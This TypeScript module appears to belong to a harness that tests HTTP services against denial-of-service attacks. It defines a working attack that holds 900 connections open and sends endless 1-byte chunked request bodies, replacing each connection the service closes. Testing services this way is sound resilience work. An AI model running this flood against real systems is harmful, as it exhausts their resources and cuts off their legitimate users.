import { once } from 'node:events';
import { connect } from 'node:net';
import { pipeline } from 'node:stream/promises';
import { setTimeout as wait } from 'node:timers/promises';
import { ATTACK_MS, type Attack, repeatConcurrently } from './attack.ts';

const CONNECTIONS = 900;
// About as many chunks of 1 byte as Node parses at once.
const PIECES = Buffer.from('1\r\n \r\n'.repeat(10_000));
// A closed connection is replaced after this pause. Without it, the attack would mainly open connections.
const PAUSE_MS = 1_000;

export const SMALL_PIECES: Attack = {
  name: 'bodies in small pieces',
  effect: `Sends bodies in chunks of 1 byte on ${CONNECTIONS} connections from one address, and replaces those that are closed.`,
  countsIf: `${CONNECTIONS} connections were closed, or still open at the end`,
  durationMs: ATTACK_MS,
  isOnConnections: true,
  hasHappened: ({ closed = 0, unfinished = 0 }) => closed + unfinished >= CONNECTIONS,
  async send({ url, caller: { localAddress } }, signal) {
    const { hostname, port } = new URL(url);
    return await repeatConcurrently(CONNECTIONS, signal, async () => {
      const socket = connect({ host: hostname, port: Number(port), localAddress, signal }).resume();
      await once(socket, 'connect');
      socket.write(`POST /nothing HTTP/1.1\r\nHost: ${hostname}\r\nTransfer-Encoding: chunked\r\n\r\n`);
      // The service closes the connection, and the pipeline then rejects.
      await pipeline(repeatForever(PIECES), socket).catch(() => signal.throwIfAborted());
      await wait(PAUSE_MS, undefined, { signal });
      return 'closed';
    });
  },
};

function* repeatForever(bytes: Buffer): Generator<Buffer> {
  for (;;) yield bytes;
}
